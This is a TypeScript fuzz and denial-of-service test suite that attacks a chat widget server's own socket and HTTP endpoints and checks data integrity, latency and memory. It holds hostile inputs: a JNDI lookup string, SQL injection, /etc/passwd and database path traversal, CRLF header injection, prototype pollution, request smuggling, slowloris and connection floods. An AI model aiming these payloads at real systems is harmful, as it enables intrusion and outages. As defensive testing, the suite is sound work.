// Input that no page of ours would send, on every way in. After each batch: the database holds what was acknowledged
// and nothing else has changed, a visitor who has nothing to do with it is answered within a second, the memory
// is bounded, the server runs.

import type { Socket } from 'socket.io-client'
import { signVisitor } from '../../src/server/signedVisitors'
import type { Corpora } from './corpora'
import { until } from './matrix'
import {
  asTyped,
  draft,
  frame,
  from,
  KEY,
  nextId,
  openBody,
  type RawSocket,
  type Stage,
  secretOf,
} from './stage'

export interface HostileResult {
  readonly inputs: number
  readonly wrong: readonly string[]
}

/** The node's floor of some 100 MB, and what thousands of hostile connections may hold for a moment. */
const RSS_BOUND = 400 * 1_048_576

export async function attack(stage: Stage, corpora: Corpora, isShort: boolean): Promise<HostileResult> {
  const wrong: string[] = []
  let inputs = 0
  // The short form runs beside other tests, which may have the processor for a while.
  const healthyWithinMs = isShort ? 3_000 : 1_000

  const healthy = await stage.socket('/asklet', { v: 1, secret: secretOf('healthy') }, from())
  const opened = await stage.ask(healthy, 'open', openBody())
  const healthyId = String(opened.conversationId)

  /** Events that attackers were told are stored, by conversation: the only ones that may be new. */
  const accepted = new Map<string, number>()
  const accept = (conversationId: string, count: number) =>
    accepted.set(conversationId, (accepted.get(conversationId) ?? 0) + count)

  async function batch(name: string, run: () => Promise<void>) {
    const before = stage.contents()
    const crashesBefore = stage.crashes()
    const agents = stage.rows('asklet_agents')
    accepted.clear()
    const started = Date.now()
    try {
      await run()
    } catch (error) {
      if (stage.crashes() > crashesBefore) throw new Error(`the server died of: ${name}`)
      wrong.push(`${name}: the attack itself failed (${(error as Error).message})`)
    }
    if (stage.crashes() > crashesBefore) throw new Error(`the server died of: ${name}`)
    const asked = Date.now()
    const answer = await stage.ask(healthy, 'send', {
      v: 1,
      conversationId: healthyId,
      drafts: [draft('I am fine')],
    })
    const took = Date.now() - asked
    if (!answer.ok || took > healthyWithinMs)
      wrong.push(`${name}: a healthy visitor waited ${took} ms (${answer.code ?? 'ok'})`)
    const after = stage.contents()
    for (const [id, value] of before)
      if (after.get(id) !== value && !accepted.has(id) && id !== healthyId)
        wrong.push(`${name}: changed ${id}`)
    for (const id of after.keys()) if (!before.has(id) && !accepted.has(id)) wrong.push(`${name}: made ${id}`)
    for (const [id, count] of accepted) {
      const head = (await stage.store.conversation(id))?.head
      if (head !== count) wrong.push(`${name}: ${id} holds ${head}, ${count} were acknowledged`)
    }
    if (stage.rows('asklet_agents') !== agents) wrong.push(`${name}: made an agent`)
    const rss = await stage.rss()
    if (rss > RSS_BOUND) wrong.push(`${name}: the server holds ${Math.round(rss / 1_048_576)} MB`)
    console.log(`  ${name}: ${Date.now() - started} ms, ${Math.round(rss / 1_048_576)} MB`)
  }

  /** A bare socket that has joined the visitors' namespace. */
  async function joined(secret = secretOf(nextId())): Promise<RawSocket> {
    const raw = await stage.raw(from())
    // What comes before the namespace has answered would only show that it is not open yet.
    const answered = new Promise<void>(done =>
      raw.tcp.on('data', data => data.includes('40/asklet,{"sid"') && done()),
    )
    raw.text(`40/asklet,${JSON.stringify({ v: 1, secret })}`)
    const isClosed = await Promise.race([answered.then(() => false), raw.closed(2_000)])
    if (isClosed) throw new Error('a good handshake was closed')
    return raw
  }

  /** Each input on a bare connection; a new one whenever the server has closed the last. */
  async function overFrames(
    all: readonly (string | Buffer)[],
    wrap: (text: Buffer) => Buffer,
    join = joined,
  ) {
    const lanes = 8
    await Promise.all(
      Array.from({ length: lanes }, async (_, lane) => {
        let raw = await join()
        for (let n = lane; n < all.length; n += lanes) {
          if (raw.isClosed()) raw = await join()
          raw.text(wrap(Buffer.from(all[n] ?? '')))
          inputs++
          // Whether it closes shows in the next turns; waiting longer only costs time.
          await new Promise(setImmediate)
        }
        await new Promise(done => setTimeout(done, 50))
        raw.tcp.destroy()
      }),
    )
  }

  const corpus = (...names: Parameters<Corpora['of']>[0][]) => names.flatMap(name => corpora.of(name))
  const packets = [...corpus('socketio-packets'), ...OWN_PACKETS]
  const texts = [
    ...corpus(
      'json-torture',
      'json-fuzz-proto',
      'unicode-naughty',
      'css-clobber-csv-jwt',
      'prompt-injection',
      'upload-filenames',
    ),
    ...OWN_TEXTS,
  ]
  const prefix = (words: string) => (text: Buffer) => Buffer.concat([Buffer.from(words), text])

  await batch('frames before any namespace', () =>
    overFrames(
      packets,
      text => text,
      () => stage.raw(from()),
    ),
  )
  await batch('frames as Engine.IO messages', () => overFrames([...packets, ...texts], prefix('4')))
  await batch('frames as Socket.IO events', () => overFrames([...packets, ...texts], prefix('42/asklet,1')))
  await batch('frames as the body of a send', () =>
    overFrames(texts, text => Buffer.concat([Buffer.from('42/asklet,1["send",'), text, Buffer.from(']')])),
  )
  await batch('frames of every opcode and length', async () => {
    for (const opcode of [0, 1, 2, 3, 7, 8, 9, 10, 11, 15])
      for (const payload of [Buffer.alloc(0), Buffer.from('2'), Buffer.alloc(200, 0xff)]) {
        const raw = await joined()
        raw.tcp.write(frame(opcode, payload, payload.length, opcode !== 0))
        raw.tcp.write(Buffer.from([0xff, 0xff, 0, 0]))
        inputs += 2
        await raw.closed(20)
        raw.tcp.destroy()
      }
  })
  await batch('frames of 10 MB, said and sent', async () => {
    const big = await joined()
    big.text(Buffer.concat([Buffer.from('42/asklet,1["send","'), Buffer.alloc(10_000_000, 'x')]))
    const declared = await joined()
    declared.tcp.write(frame(1, Buffer.alloc(1_000, 'x'), 2 ** 40))
    const many = await joined()
    // Never the last frame of its message.
    for (let n = 0; n < 200; n++)
      many.tcp.write(frame(n === 0 ? 1 : 0, Buffer.alloc(1_000, 'x'), 1_000, false))
    inputs += 3
    for (const [what, raw] of Object.entries({ big, declared, many }))
      if (!(await raw.closed(3_000))) wrong.push(`a ${what} frame was not refused`)
  })
  await batch('calls by name and body', async () => {
    const socket = await stage.socket('/asklet', { v: 1, secret: secretOf(nextId()) }, from())
    const names = [
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      'connect',
      'disconnect',
      'queue',
      '',
      ' send',
      'send\0',
      ...texts.slice(0, 60).map(String),
    ]
    const bodies = [
      null,
      undefined,
      0,
      '',
      [],
      {},
      true,
      Number.NaN,
      new Uint8Array([1, 2]),
      { v: 1, conversationId: { toString: 1 } },
      JSON.parse('{"__proto__":{"ok":true},"v":1}'),
      nested(3_000),
    ]
    const reserved = new Set([
      'connect',
      'connect_error',
      'disconnect',
      'disconnecting',
      'newListener',
      'removeListener',
    ])
    for (const name of [...names, 'open', 'send', 'sync', 'typing'])
      for (const body of bodies) {
        if (reserved.has(name) || !socket.connected) continue
        socket.emit(name, body, (answer: { ok?: boolean; code?: string }) => {
          if (answer?.ok) wrong.push(`a call "${name}" with a body that is none was answered ok`)
        })
        inputs++
      }
    await new Promise(done => setTimeout(done, 200))
    socket.disconnect()
  })
  await batch('handshakes that are none', async () => {
    const auths = [
      undefined,
      null,
      1,
      [],
      {},
      { v: '1' },
      { v: 1e9 },
      { v: 1, secret: {} },
      { v: 1, secret: ['x'.repeat(30)] },
      { v: 1, secret: 'x'.repeat(5_000) },
      { v: 1, secret: `${secretOf('a')}\n` },
      ...texts.slice(0, 100).map(text => ({ v: 1, secret: String(text) })),
    ]
    for (const auth of auths) {
      inputs++
      const got = await stage.socket('/asklet', auth as object, from()).catch((error: Error) => error.message)
      if (typeof got !== 'string')
        wrong.push(`a handshake with ${JSON.stringify(auth)?.slice(0, 60)} was let in`)
    }
  })
  await batch('tokens', async () => {
    const good = await signVisitor(KEY, { visitorId: 'x' })
    const tokens = [
      ...corpus('css-clobber-csv-jwt', 'json-fuzz-proto').map(String),
      ...texts.slice(0, 200).map(String),
      `${good}x`,
      good.slice(0, -2),
      good.replace('.', '..'),
      'a.b.c',
      '..',
      'x'.repeat(9_000),
      `${good}.${good}`,
    ]
    for (const token of tokens) {
      if (token === '') continue
      inputs++
      const got = await stage
        .socket('/asklet', { v: 1, secret: secretOf(nextId()), token }, from())
        .catch((error: Error) => error.message)
      // One that does not fit into a frame is closed before it is read.
      if (got !== 'unauthenticated' && !(got === 'closed' && token.length > 30_000))
        wrong.push(`a token that is none got ${typeof got === 'string' ? got : 'in'}`)
    }
  })
  await batch('HTTP bodies', async () => {
    const secret = secretOf(nextId())
    for (const text of [...texts, ...packets])
      for (const path of ['send', 'journal', 'search', 'desk/signin']) {
        inputs++
        const answer = await stage.http('POST', path, String(text) || ' ', {
          authorization: `Bearer ${secret}`,
          ...from(),
        })
        // An empty list of records is a batch, if a useless one; no text here is a message.
        if (answer.ok && path !== 'journal') wrong.push(`POST ${path} took ${String(text).slice(0, 60)}`)
        if (answer.status >= 500) wrong.push(`POST ${path} failed at ${String(text).slice(0, 60)}`)
      }
  })
  await batch('searches', async () => {
    const none = { name: '', headings: [], route: '/' }
    for (const text of texts.map(String)) {
      const query = text.slice(0, 500)
      const page = { name: text.slice(0, 60), headings: [text.slice(0, 60)], route: query }
      const visitor = { locale: text.slice(0, 35), role: text.slice(0, 300) }
      for (const asked of [
        { do: 'suggest', query, facts: { page, visitor }, limit: 20 },
        { do: 'passages', query, facts: { page: none, visitor: { locale: 'en' } }, limit: 20 },
        { do: 'article', articleId: text.slice(0, 300), locale: text.slice(0, 35) },
        { do: text, query: [text], facts: text, limit: -1, articleId: {} },
      ]) {
        inputs++
        const answer = await stage.http('POST', 'search', { v: 1, ...asked }, from())
        if (!answer.ok && answer.code !== 'bad_request' && answer.code !== 'too_large')
          wrong.push(`a search was answered ${answer.code} at ${query.slice(0, 60)}`)
        if (/for\/client|for\/_any/.test(JSON.stringify(answer)))
          wrong.push(`a search gave a private article away at ${query.slice(0, 60)}`)
      }
    }
  })
  await batch('HTTP headers, paths and methods, byte by byte', async () => {
    const lines = texts.map(text =>
      text
        .toString('latin1')
        .replace(/[\r\n]/g, ' ')
        .slice(0, 2_000),
    )
    const requests = lines.flatMap(line => [
      `GET /asklet/v1/${line.replaceAll(' ', '%20')} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
      `GET /asklet/v1/knowledge/${line.replaceAll(' ', '%20')} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
      `POST /asklet/v1/sync HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer ${line}\r\nX-Asklet-Token: ${line}\r\nCookie: asklet_desk=${line}\r\nX-Forwarded-For: ${line}\r\nOrigin: ${line}\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}`,
    ])
    requests.push(...OWN_REQUESTS)
    await inLanes(requests, 16, async request => {
      inputs++
      const answer = await stage.bytes(request, 600)
      if (/^HTTP\/1\.1 (500|200 )/.test(answer) && !/"ok":false/.test(answer) && !/health/.test(request))
        wrong.push(`answered ${answer.slice(0, 40)} to ${request.slice(0, 80)}`)
    })
  })
  await batch('bodies over a frame: the answer comes before the end', async () => {
    const head = 'POST /asklet/v1/send HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n'
    const chunk = `4000\r\n${'x'.repeat(0x4000)}\r\n`
    const chunked = await stage.bytes(
      `${head}Transfer-Encoding: chunked\r\n\r\n${chunk.repeat(12)}0\r\n\r\n`,
      3_000,
    )
    const said = await stage.bytes(`${head}Content-Length: 9999999\r\n\r\n${'x'.repeat(100_000)}`, 3_000)
    const endless = await stage.bytes(`${head}Transfer-Encoding: chunked\r\n\r\n${chunk.repeat(200)}`, 3_000)
    inputs += 3
    if (!chunked.startsWith('HTTP/1.1 413'))
      wrong.push(`a chunked long body got ${chunked.slice(0, 30) || 'nothing'}`)
    if (!said.startsWith('HTTP/1.1 413'))
      wrong.push(`a body said to be long got ${said.slice(0, 30) || 'nothing'}`)
    if (endless !== '' && !endless.startsWith('HTTP/1.1 413'))
      wrong.push(`an endless body got ${endless.slice(0, 30)}`)
  })
  await batch('hostile words as messages are stored as they are', async () => {
    const words = [...texts, ...corpus('xss-dompurify', 'xss-html5sec', 'xss-lists')]
      .map(String)
      .filter(text => text !== '' && text.length <= 4_000)
    const all = chunked(words, 150)
    await inLanes(all, 4, async part => {
      const socket = await stage.socket('/asklet', { v: 1, secret: secretOf(nextId()) }, from())
      const made = await stage.ask(socket, 'open', openBody())
      const conversationId = String(made.conversationId)
      let stored = 1
      for (const some of chunked(part, 8)) {
        inputs += some.length
        const answer = await stage.ask(socket, 'send', {
          v: 1,
          conversationId,
          // As the visitor wants it: what a pattern takes for a secret would be masked on the way.
          drafts: some.map(text => asTyped(text)),
        })
        if (answer.ok) stored += some.length
        else if (answer.code !== 'too_large' && answer.code !== 'no_answer')
          wrong.push(`words were refused: ${answer.code} ${answer.detail ?? ''}`)
        else if (!socket.connected) break
      }
      accept(conversationId, (await stage.store.conversation(conversationId))?.head === stored ? stored : -1)
      const page = await stage.store.read(conversationId, 1, 500)
      const got = new Set((page?.events ?? []).map(({ body }) => (body.type === 'message' ? body.text : '')))
      for (const text of got)
        if (!part.includes(text)) wrong.push(`stored otherwise than sent: ${text.slice(0, 60)}`)
      socket.disconnect()
    })
  })
  await batch('10 000 messages from one visitor', async () => {
    const socket = await stage.socket('/asklet', { v: 1, secret: secretOf(nextId()) }, from())
    const made = await stage.ask(socket, 'open', openBody())
    const conversationId = String(made.conversationId)
    let stored = 1
    const refused = new Map<string, number>()
    const count = isShort ? 2_000 : 10_000
    await Promise.all(
      Array.from({ length: count }, async () => {
        inputs++
        const answer = await stage.ask(socket, 'send', { v: 1, conversationId, drafts: [draft('again')] })
        if (answer.ok) stored++
        else refused.set(String(answer.code), (refused.get(String(answer.code)) ?? 0) + 1)
        if (answer.code === 'rate_limited' && typeof answer.after !== 'number')
          wrong.push('rate_limited without after')
      }),
    )
    accept(conversationId, stored)
    if (stored > 450) wrong.push(`one visitor had ${stored} messages stored in one go`)
    for (const code of refused.keys())
      if (code !== 'rate_limited') wrong.push(`a flood was refused with ${code}`)
    socket.disconnect()
  })
  await batch('a flood of connections from one address', async () => {
    const flood = from(7)
    const codes = new Map<string, number>()
    const open: Socket[] = []
    await inLanes(Array.from({ length: isShort ? 1_300 : 4_000 }), 50, async () => {
      inputs++
      const got = await stage
        .socket('/asklet', { v: 1, secret: secretOf(nextId()) }, flood)
        .catch((error: Error) => error.message)
      if (typeof got === 'string') codes.set(got, (codes.get(got) ?? 0) + 1)
      else open.push(got)
    })
    if (open.length > 1_000) wrong.push(`one address holds ${open.length} connections`)
    if (!codes.has('rate_limited')) wrong.push('a flood of connections was not refused')
    for (const socket of open) socket.disconnect()
  })
  await batch('connections that ask for nothing are dropped', async () => {
    const idle = await Promise.all(Array.from({ length: isShort ? 20 : 300 }, () => stage.raw(from())))
    inputs += idle.length
    if (isShort) return idle.forEach(raw => raw.tcp.destroy())
    const closed = await Promise.all(idle.map(raw => raw.closed(18_000)))
    if (closed.includes(false))
      wrong.push(`${closed.filter(is => !is).length} upgraded connections without a namespace stay`)
  })
  await batch('slow headers and slow bodies are dropped', async () => {
    if (isShort) return
    const slow = [
      'GET /asklet/v1/health HTTP/1.1\r\nHost: x\r\n',
      'POST /asklet/v1/send HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{',
    ]
    await Promise.all(
      slow.map(async start => {
        inputs++
        const from = Date.now()
        await stage.bytes(start, 33_000)
        if (Date.now() - from > 32_000)
          wrong.push(`a slow request was heard for ${Date.now() - from} ms: ${start.slice(0, 24)}`)
      }),
    )
  })
  await batch('a reader who does not read is disconnected', async () => {
    const secret = secretOf(nextId())
    const headers = from()
    const writer = await stage.socket('/asklet', { v: 1, secret }, headers)
    const made = await stage.ask(writer, 'open', openBody())
    const conversationId = String(made.conversationId)
    let stored = 1
    for (let n = 0; n < 20; n++) {
      const answer = await stage.ask(writer, 'send', {
        v: 1,
        conversationId,
        drafts: [draft('x'.repeat(4_000))],
      })
      if (answer.ok) stored++
    }
    accept(conversationId, stored)
    const reader = await joined(secret)
    reader.tcp.pause()
    for (let n = 0; n < 250; n++) {
      reader.text(`42/asklet,${n}["sync",${JSON.stringify({ v: 1, conversationId, after: 0, epoch: '' })}]`)
      inputs++
    }
    // Paused, the end is not read either: a write to a connection that is gone tells.
    let isGone = false
    reader.tcp.on('error', () => {
      isGone = true
    })
    const end = Date.now() + 12_000
    while (!isGone && !reader.isClosed() && Date.now() < end) {
      reader.text('3')
      await new Promise(done => setTimeout(done, 200))
    }
    if (!isGone && !reader.isClosed()) wrong.push('a reader who does not read stays connected')
    reader.tcp.destroy()
    writer.disconnect()
  })
  await until(() => false, 100)
  healthy.disconnect()
  return { inputs, wrong }
}

/** JSON, so deep that a parser which calls itself runs out of stack. */
const deep = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`
function nested(depth: number): unknown {
  let value: unknown = 1
  for (let n = 0; n < depth; n++) value = [value]
  return value
}

const OWN_TEXTS: readonly Buffer[] = [
  deep(30_000),
  `{"v":1,"a":${'{"a":'.repeat(9_000)}1${'}'.repeat(9_000)}}`,
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"ok":true}}}',
  '{"v":1,"conversationId":"__proto__","drafts":[]}',
  '{"v":1,"conversationId":"aaaaaaaaaaaaaaaaaaaaaa","drafts":[{"clientId":"__proto__","body":{"type":"__proto__"}}]}',
  '{"v":1,"v":2}',
  '{"v":1e400}',
  '[]',
  'null',
  '"\\ud800"',
  "' or 1=1 --",
  '$'.concat('{jndi:ldap://x/a}'),
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie:%20a=b',
  '\u202e\u0000\ufeff',
]
  .map(text => Buffer.from(text))
  .concat([Buffer.from([0xff, 0xfe, 0x00, 0xc0, 0x80])])

const OWN_PACKETS: readonly Buffer[] = [
  '',
  '0',
  '1',
  '2probe',
  '3',
  '4',
  '5',
  '6',
  '9',
  '40',
  '41/asklet,',
  '43/asklet,1[]',
  '43/asklet,999999999999999999999[]',
  '44/asklet,"x"',
  '45',
  '451-/asklet,1["send",{"_placeholder":true,"num":0}]',
  '4599999999-/asklet,1["send",{"_placeholder":true,"num":0}]',
  '451-/asklet,["send",{"_placeholder":true,"num":-1}]',
  '46',
  '42/asklet,1["send"',
  '42/asklet,1[]',
  '42/asklet,1{}',
  '42/asklet,1[{}]',
  '42/asklet,1[null,null]',
  '42/asklet,1["__proto__",{}]',
  '42/asklet,1["connect",{}]',
  '42/asklet,1["disconnect"]',
  '42/asklet,1["newListener",{}]',
  '42/asklet-desk,1["queue",{"v":1}]',
  '42/nowhere,1["x"]',
  `40/${'x'.repeat(5_000)},`,
  '40/asklet?x=1,{}',
  '4bAAAA',
  'bAAAA',
  `42/asklet,1["send",${deep(20_000)}]`,
].map(text => Buffer.from(text))

const OWN_REQUESTS: readonly string[] = [
  '\r\n\r\n',
  'GET\r\n\r\n',
  'GET /asklet/v1/health HTTP/9.9\r\n\r\n',
  `GET /asklet/v1/${'x'.repeat(20_000)} HTTP/1.1\r\nHost: x\r\n\r\n`,
  `GET /asklet/v1/desk/me HTTP/1.1\r\nHost: x\r\nConnection: close\r\nCookie: ${'a=b; '.repeat(2_000)}\r\n\r\n`,
  'POST /asklet/v1/send HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n',
  'POST /asklet/v1/send HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
  'POST /asklet/v1/send HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n',
  'TRACE /asklet/v1/send HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
  'PUT /asklet/v1/desk/signin HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
  'GET /asklet/v1/%E0%A4%A HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
  'GET /asklet/v1/knowledge/%2e%2e%2f%2e%2e%2fdesk.db HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
  'GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
  'GET /socket.io/?EIO=3&transport=websocket HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
  'GET /socket.io/?EIO=4&transport=websocket&sid=__proto__ HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n',
]

function chunked<T>(all: readonly T[], size: number): T[][] {
  const parts: T[][] = []
  for (let n = 0; n < all.length; n += size) parts.push(all.slice(n, n + size))
  return parts
}

async function inLanes<T>(all: readonly T[], lanes: number, run: (item: T) => Promise<void>): Promise<void> {
  let next = 0
  await Promise.all(
    Array.from({ length: lanes }, async () => {
      while (next < all.length) await run(all[next++] as T)
    }),
  )
}
